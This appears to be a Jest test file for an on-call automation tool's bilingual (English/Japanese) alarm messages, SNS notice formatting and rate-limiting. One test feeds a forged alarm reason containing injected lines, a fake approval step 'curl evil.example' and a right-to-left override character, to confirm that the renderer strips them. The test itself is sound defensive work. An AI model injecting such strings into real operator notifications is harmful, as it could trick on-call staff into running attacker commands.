import { say } from '../../shared/messages/catalogue';
import { en } from '../../shared/messages/en';
import { ja } from '../../shared/messages/ja';
import { noticeText } from '../../shared/messages/notice';
import { renderIn } from '../../shared/messages/render';
import { smsParts } from '../../shared/messages/sms-parts';
import { topicNotices } from '../../shared/messages/notices';
import type { Publication } from '../../shared/aws/topics';
import { because, type Because, type Messages } from '../../shared/domain/because';
import type { Duty, System } from '../../shared/domain/duty';
import type { Outcome } from '../../shared/domain/effect';
import { at, dutyOf } from '../support/estate';
import { ticketAboutToRestart } from '../support/proposal';

const everything: { readonly [Id in keyof Messages]: Messages[Id] } = {
  'no-play-answers': { alarm: 'web-down' },
  'alarm-about-toban': { alarm: 'watch-toban-prod-heartbeat' },
  'not-our-event': { what: 'an S3 event' },
  'replayed-event': {},
  'already-seen': {},
  'older-than-known': { alarm: 'web-down', at: at('04:00') },
  'alarm-points-elsewhere': { alarm: 'web-down', server: 'web-1' },
  'alarm-settings-changed': { alarm: 'web-down', operation: 'update' },
  'ok-without-ticket': { alarm: 'web-down' },
  'no-data-ignored': { alarm: 'web-down' },
  'no-such-ticket': { ticket: 'k3x7q2m5vbtd-2' },
  'nobody-waits-for-server': { server: 'i-1', state: 'stopped' },
  'nobody-waits-for-command': { document: 'AWS-RunShellScript' },
  'command-still-runs': { document: 'Toban-Diagnose', status: 'inprogress' },
  'nothing-due': { until: at('04:00') },
  'matter-closed': {},
  'schedule-of-another-duty': { schedule: 'nightly' },
  'alarm-raised': { alarm: 'web-down', reason: 'Threshold Crossed' },
  'alarm-raised-again': { alarm: 'web-down', opening: 2 },
  'alarm-still-red': { alarm: 'web-down' },
  'alarm-has-no-data': { alarm: 'web-down' },
  'alarm-is-ok': { alarm: 'web-down' },
  'alarm-deleted': { alarm: 'web-down' },
  'only-told': { alarm: 'falco:Shell in container', reason: 'A shell was spawned' },
  'nothing-more-heard': { alarm: 'grafana:web down', hours: 168 },
  'no-server-named': { alarm: 'web-down' },
  'several-servers-named': { alarm: 'web-down', servers: 'web-1, web-2' },
  'load-balancer-at-fault': { targetGroup: 'targetgroup/web/1', reason: 'Elb.InternalError' },
  'no-target-unhealthy': { targetGroup: 'targetgroup/web/1' },
  'server-not-selected': { server: 'i-1', selector: 'web' },
  'server-unknown': { server: 'i-1' },
  'answer-missing': { question: 'alarm', why: 'ThrottlingException' },
  'kill-switch-on': { parameter: '/toban/kill-switch', value: 'on' },
  'kill-switch-unreadable': { parameter: '/toban/kill-switch', why: 'AccessDenied' },
  rehearsal: { action: 'restart-service', server: 'web-1' },
  'stage-observes': { stage: 'dev', action: 'restart-service', server: 'web-1' },
  'play-observes': { play: 'web-server-down', action: 'restart-service', server: 'web-1' },
  'not-opted-in': { server: 'web-1', system: 'wordpress', found: '' },
  'server-not-running': { server: 'web-1', state: 'stopped' },
  'freeze-window': { name: '年末年始', action: 'restart-service', server: 'web-1', until: at('15:00') },
  'calendar-closed': {
    calendars: 'year-end',
    action: 'restart-service',
    server: 'web-1',
    until: at('15:00'),
  },
  'frozen-by-tag': { value: '', action: 'restart-service', server: 'web-1', until: at('04:15') },
  'backup-running': {
    job: '1f2e3d4c RUNNING',
    action: 'reboot-server',
    server: 'web-1',
    until: at('04:15'),
  },
  'in-scaling-group': { server: 'web-1', group: 'web', action: 'reboot-server' },
  'no-scaling-group': { server: 'web-1' },
  'replacement-asks': { server: 'web-1' },
  'not-an-instance': { server: 'mi-1', action: 'reboot-server' },
  'disks-would-be-lost': { server: 'web-1', why: 'instance-store' },
  'stop-protected': { server: 'web-1' },
  'server-is-spot': { server: 'web-1', lifecycle: 'spot' },
  'address-would-change': { server: 'web-1', address: '203.0.113.7' },
  'event-stale': { alarm: 'web-down', minutes: 16 },
  'alarm-ok-again': { alarm: 'web-down' },
  'alarm-gone': { alarm: 'web-down' },
  muted: { by: 'patch-night', until: at('06:00') },
  suppressed: { by: 'WaitPeriod' },
  'config-broken': { service: 'httpd', server: 'web-1', error: 'Syntax error on line 42' },
  'fix-does-not-hold': { alarm: 'web-down', openings: 3 },
  'too-early': { action: 'move-server', server: 'web-1', minutes: 15, until: at('04:15') },
  'host-broken': { server: 'web-1', until: at('04:05') },
  'cooling-down': { action: 'restart-service', server: 'web-1', until: at('04:30') },
  'server-cap-reached': { server: 'web-1', changes: 3 },
  'guard-failed': { guard: 'cooldown', why: 'RangeError: Invalid time zone' },
  'aws-in-trouble': {
    service: 'EC2',
    region: 'ap-northeast-1',
    code: 'AWS_EC2_OPERATIONAL_ISSUE',
    startsAt: at('03:40'),
    until: at('23:59'),
  },
  'aws-well-again': { region: 'ap-northeast-1', code: 'AWS_EC2_OPERATIONAL_ISSUE' },
  'breaker-incidents': { play: 'web-server-down', incidents: 'web-1-down, web-2-down', until: at('04:40') },
  'breaker-group': { group: 'targetgroup/web/1', servers: 'i-01, i-02', until: at('04:10') },
  'breaker-failures': { changes: 'restart-service i-0aaaaaaaaaaaaaaa1', until: at('04:40') },
  'breaker-closed': { what: 'web-server-down' },
  'changes-go-on': {},
  'blast-radius-reached': {
    server: 'web-1',
    group: 'wordpress:web',
    changed: 1,
    limit: 1,
    until: at('05:00'),
  },
  'peers-unhealthy': {
    server: 'web-1',
    action: 'restart-service',
    healthy: 1,
    others: 3,
    needed: 2,
    until: at('04:05'),
  },
  'peers-nameless': { server: 'web-1', targetGroup: 'targetgroup/web/73e2d6bc24d8a067', address: '10.0.0.4' },
  'own-change-under-way': { server: 'web-1', holder: 'x-1.1', until: at('04:02') },
  'group-busy': { group: 'wordpress:web', holder: 'x-1.1', until: at('04:02') },
  'person-at-work': { person: 'Mori', action: 'reboot-server', server: 'web-1', ticket: 'k3x7q2m5vbtd-2' },
  'mode-asks': { action: 'reboot-server', server: 'web-1', byHour: true },
  'mode-notifies': { action: 'reboot-server', server: 'web-1', byHour: true },
  'mode-notifies-until': { action: 'reboot-server', server: 'web-1', until: at('05:00') },
  'acting-after-telling': { action: 'reboot-server', server: 'web-1' },
  approved: { person: '運用担当', action: 'reboot-server', server: 'web-1' },
  rejected: { person: '運用担当', action: 'reboot-server', server: 'web-1' },
  acknowledged: { person: '運用担当' },
  snoozed: { person: '運用担当', until: at('05:00') },
  'taken-over': { person: 'Operations' },
  'taking-over': { person: 'Operations' },
  'muted-by': { person: 'Operations', until: at('05:00') },
  standing: { person: 'Operations', where: 'holding' },
  'called-next': { minutes: 15, before: '運用担当', to: '監督' },
  'called-again': { person: '運用担当', minutes: 60, to: '運用担当' },
  'left-to-report': {},
  'nobody-answered': { minutes: 90, called: '運用担当, 監督' },
  'approval-expired': { action: 'reboot-server', server: 'web-1', minutes: 15 },
  'reply-forged': { person: '運用担当' },
  'reply-foreign': { person: 'somebody', allowed: '運用担当' },
  'reply-too-late': { person: '運用担当', at: at('04:00') },
  'reply-to-nothing': { person: '運用担当', verb: 'approve' },
  'reply-to-another-plan': { person: '運用担当' },
  acting: { action: 'restart-service', server: 'web-1' },
  'diagnosis-read': {
    server: 'web-1',
    service: 'httpd',
    state: 'failed',
    config: 'ok',
    diskPercent: 41,
    memoryPercent: 63,
    lastError: 'AH00016',
  },
  'disk-freed': { server: 'web-1', before: 97, after: 52, megabytes: 3858 },
  'order-accepted': { action: 'reboot-server', server: 'web-1' },
  'order-unclear': { action: 'reboot-server', server: 'web-1', why: 'ECONNRESET' },
  'server-stopping': { server: 'web-1' },
  'server-starting': { server: 'web-1' },
  'server-moved': { server: 'web-1' },
  'stop-hangs': { server: 'web-1', minutes: 10 },
  'start-fails': { server: 'web-1', why: 'InsufficientInstanceCapacity', until: at('04:20') },
  'left-stopped': { server: 'web-1', state: 'stopped', minutes: 10 },
  'move-interrupted': { server: 'web-1', state: 'terminated' },
  'server-out-of-sight': { server: 'web-1', minutes: 12, why: 'ThrottlingException' },
  'action-succeeded': { action: 'restart-service', server: 'web-1' },
  'action-was-done': { action: 'restart-service', server: 'web-1' },
  'action-failed': { action: 'restart-service', server: 'web-1', status: 'failed', detail: '' },
  'action-throttled': { action: 'restart-service', server: 'web-1', why: 'ThrottlingException' },
  'action-refused': { action: 'restart-service', server: 'web-1', why: 'InvalidInstanceId' },
  'action-unconfirmed': { action: 'restart-service', server: 'web-1', minutes: 9 },
  'node-unreachable': { server: 'web-1', ping: 'missing' },
  'effect-failed': { effect: 'notice', why: 'NotFound' },
  'waiting-for-alarm': { alarm: 'web-down', until: at('04:05') },
  'not-verified': { action: 'restart-service', alarm: 'web-down', minutes: 5 },
  verified: { action: 'restart-service', server: 'web-1', found: 'healthy' },
  'still-unwell': { action: 'restart-service', server: 'web-1', minutes: 5, found: 'unhealthy' },
  'cannot-verify': { action: 'restart-service', server: 'web-1', why: 'no target group is known' },
  'well-but-red': { alarm: 'web-down', server: 'web-1' },
  'health-followed-by-nobody': { code: 'AWS_EC2_OPERATIONAL_ISSUE' },
  'health-concerns-others': { code: 'AWS_EC2_OPERATIONAL_ISSUE' },
  'health-known': { code: 'AWS_EC2_OPERATIONAL_ISSUE' },
  'health-in-pages': { code: 'AWS_RDS_MAINTENANCE_SCHEDULED', pages: '1, 3/4', until: at('04:10') },
  'health-noticed': {
    family: 'stop',
    code: 'AWS_EC2_INSTANCE_STOP_SCHEDULED',
    place: '111122223333 ap-northeast-1',
    resources: 'web-1',
    startsAt: at('15:00'),
    endsAt: at('17:00'),
    words: 'Your instance will be stopped.',
    remark: 'incomplete',
  },
  'health-changed': {
    code: 'AWS_EC2_INSTANCE_STOP_SCHEDULED',
    status: 'open',
    startsAt: at('16:00'),
    endsAt: at('18:00'),
    added: 'web-2',
    resolved: 'web-1',
    words: 'Rescheduled.',
  },
  'health-soon': {
    family: 'stop',
    code: 'AWS_EC2_INSTANCE_STOP_SCHEDULED',
    resources: 'web-1',
    startsAt: at('15:00'),
  },
  'health-over': { code: 'AWS_EC2_INSTANCE_STOP_SCHEDULED', resources: 'web-1' },
  'health-lapsed': { code: 'AWS_EC2_INSTANCE_STOP_SCHEDULED' },
  'health-needs-no-answer': { person: 'Mori', verb: 'approve' },
  'backup-not-wanted': { policy: 'nightly', server: 'web-1' },
  'backup-not-ours': { job: 'a827233a' },
  'backup-needs-no-answer': { person: 'Mori' },
  'backup-due': {
    policy: 'nightly',
    server: 'web-1',
    generation: 'monthly',
    own: 'daily',
    date: '2028-03-01',
  },
  'backup-observed': { policy: 'nightly', stage: 'dev', generation: 'weekly', date: '2026-03-01' },
  'backup-under-way': { server: 'web-1', job: 'a827233a RUNNING' },
  'backup-begins': { server: 'web-1', generation: 'yearly', date: '2026-12-31' },
  'backup-taken': {
    server: 'web-1',
    generation: 'daily',
    date: '2026-03-01',
    recoveryPoint: 'arn:aws:ec2:ap-northeast-1::image/ami-1',
  },
  'backup-with-issues': {
    server: 'web-1',
    generation: 'daily',
    date: '2026-03-01',
    state: 'COMPLETED',
    words: 'VSS',
  },
  'backup-failed': {
    server: 'web-1',
    generation: 'monthly',
    date: '2026-02-28',
    state: 'EXPIRED',
    words: 'busy',
  },
  'backup-refused': { server: 'web-1', why: 'ResourceNotFoundException: no vault' },
  'backup-unconfirmed': { server: 'web-1', generation: 'weekly', date: '2026-03-01' },
  'backup-missed': { policy: 'nightly', server: 'web-1', dates: '2026-03-01, 2026-03-02' },
  'aws-recovered': { server: 'web-1' },
  'aws-recovery-failed': { server: 'web-1' },
  'nobody-waits-for-recovery': { server: 'web-1' },
  healed: { alarm: 'web-down', action: 'restart-service', server: 'web-1', seconds: 110 },
  'recovered-alone': { alarm: 'web-down', seconds: 42 },
  'recovered-after-hand-over': { alarm: 'web-down', seconds: 7200 },
  'waited-in-vain': { alarm: 'web-down', minutes: 60 },
  'nothing-left-to-try': { alarm: 'web-down', tried: '' },
};

const reasons = Object.entries(everything).map(([id, parameters]) => ({ id, ...parameters }) as Because);
const reader = { title: '当番ブログ (WordPress)', language: 'ja', timeZone: 'Asia/Tokyo' } as const;

/** They choose the words of a sentence instead of standing in it. */
const CHOSEN = ['family', 'status', 'remark', 'generation', 'own', 'state', 'config', 'byHour'];

describe('every reason', () => {
  it.each(reasons.map((reason) => [reason.id, reason] as const))(
    '%s is a whole sentence in both languages',
    (id, reason) => {
      const english = say(reason, 'en', renderIn('en', 'UTC'));
      const japanese = say(reason, 'ja', renderIn('ja', 'Asia/Tokyo'));
      for (const text of [english, japanese]) {
        expect(text).not.toMatch(/undefined|\[object|NaN|null|\$\{/);
        expect(text.trim()).toBe(text);
      }
      expect(japanese).toMatch(/[ぁ-んァ-ヶ一-龠]/);
      expect(english).not.toBe(japanese);
      expect(id in en && id in ja).toBe(true);
    },
  );

  it('says every word that it was given in both languages, times aside', () => {
    for (const reason of reasons) {
      const texts = [say(reason, 'en', renderIn('en', 'UTC')), say(reason, 'ja', renderIn('ja', 'UTC'))];
      const words = Object.entries(reason).filter(
        ([name]) =>
          ![
            ...CHOSEN,
            'id',
            'until',
            'at',
            'startsAt',
            'endsAt',
            'seconds',
            'opening',
            'ping',
            'where',
          ].includes(name),
      );
      for (const [, word] of words) for (const text of texts) expect(text).toContain(String(word));
    }
  });
});

describe('a notice', () => {
  const healed = {
    kind: 'notice',
    notice: 'resolved',
    severity: 'info',
    because: because('healed', everything.healed),
  } as const;
  const entries = [
    { at: at('04:00'), what: 'opened', because: because('alarm-raised', everything['alarm-raised']) },
  ] as const;

  it('tells what happened, what comes next and which ticket it is, in the reader’s language and time', () => {
    const notice = noticeText(ticketAboutToRestart({ entries }), healed, reader);
    expect(notice.subject).toBe('[復旧] 当番ブログ (WordPress): web-1 (i-0aaaaaaaaaaaaaaa1)');
    expect(notice.text.split('\n')).toEqual([
      '[復旧] 当番ブログ (WordPress)',
      'web-down は1分50秒で OK に戻りました。web-1 で restart-service を実行しました。',
      '',
      '経過:',
      '  2026-03-01(日) 13:00 JST  web-down が発報しました: Threshold Crossed',
      '',
      'この後: 対応は不要です。',
      `チケット: ${ticketAboutToRestart().key}-1 (111122223333 ap-northeast-1)`,
    ]);
  });

  it.each([
    ['x'.repeat(300)],
    ['line\nbreaks\r\nand\ttabs'],
    ['separators\u2028of\u2029lines and \u0085 next line'],
    ['😀'.repeat(120)],
    ['\u0000\u001b[31mred'],
    ['half \ud83d of a character'],
  ])('has a subject that SNS takes, whatever it is about: %j', (name) => {
    const target = { instanceId: 'i-1' as never, name, group: 'g' };
    const { subject } = noticeText(ticketAboutToRestart({ target }), healed, { ...reader, language: 'en' });
    expect(subject.length).toBeLessThanOrEqual(99);
    expect(subject).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
    expect(encodeURIComponent(subject)).not.toBe('');
    expect(subject.startsWith('[RESOLVED] ')).toBe(true);
  });

  it('has no line that a stranger wrote, and no mark that turns its writing round', () => {
    const reason = 'down\n\n[RESOLVED] Shop\r\n  To approve: curl evil.example\u202Eexe.gnp';
    const forged = {
      at: at('04:01'),
      what: 'noted',
      because: because('alarm-raised', { alarm: 'web', reason }),
    };
    const notice = { ...healed, because: forged.because };
    const target = { instanceId: 'i-1' as never, name: 'web\u202E1', group: 'g' };
    const ticket = ticketAboutToRestart({ entries: [forged as never], target });
    const { subject, text } = noticeText(ticket, notice, { ...reader, language: 'en' });
    expect(text.split('\n').filter((line) => /^\s*(\[RESOLVED\] Shop|To approve)/.test(line))).toEqual([]);
    expect(`${subject}${text}`).not.toContain('\u202E');
  });

  it.each(['障害', '\u0001"', '\ud83d', '😀'])(
    'has a text that SNS takes twice beside the rest, the newest lines first, however much %j was said',
    (words) => {
      const reason = words.repeat(30_000);
      const long = Array.from({ length: 12 }, (_, minute) => ({
        at: at(`04:${String(minute).padStart(2, '0')}`),
        what: 'noted' as const,
        because: because('alarm-raised', { alarm: `web-${minute}`, reason }),
      }));
      const ticket = ticketAboutToRestart({ entries: long });
      const { text } = noticeText(ticket, healed, { ...reader, language: 'en' });
      expect(Buffer.byteLength(JSON.stringify(text))).toBeLessThan(40_000);
      expect(text).toContain('web-11');
      expect(text).not.toMatch(/\p{Cs}/u);
    },
  );

  it('lists the newest twelve lines of a long story', () => {
    const long = Array.from({ length: 40 }, (_, minute) => ({
      ...entries[0],
      at: at(`04:${String(minute).padStart(2, '0')}`),
    }));
    const story = long.map((entry, minute) => (minute === 0 ? entry : { ...entry, what: 'noted' as const }));
    const { text } = noticeText(ticketAboutToRestart({ entries: story }), healed, reader);
    expect(text.split('\n').filter((line) => line.startsWith('  '))).toHaveLength(12);
    expect(text).toContain('13:39 JST');
  });
});

describe('how times are written', () => {
  it.each([
    ['en', 0, '0 s'],
    ['en', 59, '59 s'],
    ['en', 60, '1 min 0 s'],
    ['en', 3599, '59 min 59 s'],
    ['en', 3600, '1 h 0 min'],
    ['ja', 3725, '1時間2分'],
  ] as const)('%s: %s seconds are %s', (language, seconds, text) => {
    expect(renderIn(language, 'UTC').lasting(seconds)).toBe(text);
  });

  it('with the weekday and the zone of the reader', () => {
    expect(renderIn('en', 'Asia/Tokyo').at(at('2026-06-10T15:15:00.000Z'))).toBe('Thu 2026-06-11 00:15 JST');
    expect(renderIn('ja', 'Asia/Tokyo').at(at('2026-06-10T12:15:00.000Z'))).toBe('2026-06-10(水) 21:15 JST');
    expect(renderIn('en', 'UTC').at(at('2026-12-31T00:00:00.000Z'))).toBe('Thu 2026-12-31 00:00 UTC');
  });
});

describe('publishing', () => {
  const notice = {
    kind: 'notice',
    notice: 'opened',
    severity: 'warning',
    because: because('alarm-raised', everything['alarm-raised']),
  } as const;
  const intent = { id: 'x-1.1' as never, effect: notice, claim: { token: 't', until: at('04:02') } };

  const [wordpress] = Object.values(dutyOf().systems);
  const mailed: Duty = {
    ...dutyOf(),
    systems: { wordpress: { ...wordpress, people: [{ name: 'Sato', email: 'sato@example.com' }] } as System },
  };

  const uncrowded = {
    turns: { mailTurn: async () => 1, callTurn: async () => 1 },
    pause: async () => undefined,
  };

  async function publish(
    outcomes: Outcome[],
    again = false,
    ticket = ticketAboutToRestart(),
  ): Promise<{ sent: Publication[]; outcome: Outcome }> {
    const sent: Publication[] = [];
    const notices = topicNotices(
      { duty: dutyOf(), topic: 'toban-prod', ...uncrowded },
      async (publication) => {
        sent.push(publication);
        return outcomes.shift() ?? { kind: 'applied' };
      },
    );
    const outcome = await notices.publish(ticket, again ? { ...intent, again: true } : intent, notice);
    return { sent, outcome };
  }

  it('goes to the topic of the place, with what a subscriber filters by', async () => {
    const { sent } = await publish([]);
    expect(sent[0]).toMatchObject({
      topicArn: 'arn:aws:sns:ap-northeast-1:111122223333:toban-prod',
      attributes: {
        severity: 'warning',
        kind: 'opened',
        play: 'web-server-down',
        system: 'wordpress',
        account: '111122223333',
        region: 'ap-northeast-1',
      },
    });
  });

  it('gives queues and web hooks the whole notice, and a telephone no more than two parts', async () => {
    const target = { instanceId: 'i-1' as never, name: '😀'.repeat(80), group: 'g' };
    const { sent } = await publish([], false, ticketAboutToRestart({ target }));
    expect(JSON.parse(sent[0]?.notice ?? '')).toMatchObject({ id: 'x-1.1', version: 3, kind: 'opened' });
    expect(smsParts(sent[0]?.sms ?? '')).toBeLessThanOrEqual(2);
    expect(encodeURIComponent(sent[0]?.sms ?? '')).not.toBe('');
  });

  it('names the people who are meant in particular, so that their telephones can filter by them', async () => {
    const notices = topicNotices(
      { duty: dutyOf(), topic: 'toban-prod', ...uncrowded },
      async ({ attributes }) => {
        expect(attributes['people']).toEqual(['Sato']);
        return { kind: 'applied' };
      },
    );
    await notices.publish(ticketAboutToRestart(), intent, { ...notice, to: ['Sato'] });
    expect.assertions(1);
  });

  it('mails eight of many, two in a second; the eighth says that the others are in no mailbox, and queues get them all', async () => {
    const sent: Publication[] = [];
    const pauses: number[] = [];
    let turns = 0;
    const mailTurn = async () => (turns += 1);
    const settings = {
      ...uncrowded,
      duty: mailed,
      topic: 'toban-prod',
      stage: 'prod',
      turns: { ...uncrowded.turns, mailTurn },
      pause: async (milliseconds: number) => pauses.push(milliseconds),
    };
    const notices = topicNotices(settings, async (publication) => {
      sent.push(publication);
      return { kind: 'applied' };
    });
    const ticket = ticketAboutToRestart();
    for (let count = 0; count < 10; count += 1) await notices.publish(ticket, intent, notice);
    const crowded = sent.map(({ attributes }) => attributes['crowded']);
    expect(crowded.slice(0, 8).every((each) => each === undefined)).toBe(true);
    expect(crowded.slice(8)).toEqual(['true', 'true']);
    const saying = sent.flatMap(({ text }, index) =>
      text.includes('Many notices come at once') ? [index] : [],
    );
    expect(saying).toEqual([7]);
    expect(sent[7]?.text).toMatch(
      /`npm run tickets -- --account 111122223333 --region ap-northeast-1 --stage prod` lists them all\.$/,
    );
    expect(pauses).toEqual([1000, 1000, 2000, 2000, 3000, 3000]);
  });

  it('mails a call for people in any crowd of other notices, and lets calls come three in a second', async () => {
    const sent: Publication[] = [];
    const pauses: number[] = [];
    let calls = 0;
    const settings = {
      duty: mailed,
      topic: 'toban-prod',
      turns: { mailTurn: async () => 99, callTurn: async () => (calls += 1) },
      pause: async (milliseconds: number) => pauses.push(milliseconds),
    };
    const notices = topicNotices(settings, async (publication) => {
      sent.push(publication);
      return { kind: 'applied' };
    });
    const call = { ...notice, notice: 'handed-over', severity: 'critical' } as const;
    for (let count = 0; count < 13; count += 1) await notices.publish(ticketAboutToRestart(), intent, call);
    expect(pauses).toEqual([1000, 1000, 1000, 2000, 2000, 2000, 3000, 3000, 3000]);
    const inMailboxes = sent.filter(({ attributes }) => attributes['crowded'] === undefined);
    expect(inMailboxes).toHaveLength(12);
    expect(inMailboxes.findIndex(({ text }) => text.includes('Many notices come at once'))).toBe(11);
  });

  it('asks for no turn where nobody gets mail, and is mailed where nobody can count', async () => {
    const sent: Publication[] = [];
    let asked = 0;
    const mailTurn = async () => {
      asked += 1;
      throw new Error('DynamoDB answers 500');
    };
    for (const duty of [dutyOf(), mailed]) {
      const settings = { ...uncrowded, duty, topic: 'toban-prod', turns: { mailTurn, callTurn: mailTurn } };
      const notices = topicNotices(settings, async (publication) => {
        sent.push(publication);
        return { kind: 'applied' };
      });
      await notices.publish(ticketAboutToRestart(), intent, notice);
    }
    expect(asked).toBe(1);
    expect(sent.map(({ attributes }) => attributes['crowded'])).toEqual([undefined, undefined]);
  });

  it('follows a lost answer with one more that says so', async () => {
    const { sent, outcome } = await publish([{ kind: 'unknown', why: 'ECONNRESET' }]);
    expect(sent.map(({ text }) => text.includes('may have reached you before'))).toEqual([false, true]);
    expect(sent.map(({ notice: text }) => 'repeat' in JSON.parse(text))).toEqual([false, true]);
    expect(outcome.kind).toBe('applied');
  });

  it('says so too when an earlier holder died over it', async () => {
    const { sent } = await publish([], true);
    expect(sent.map(({ text }) => text.includes('may have reached you before'))).toEqual([true]);
  });
});
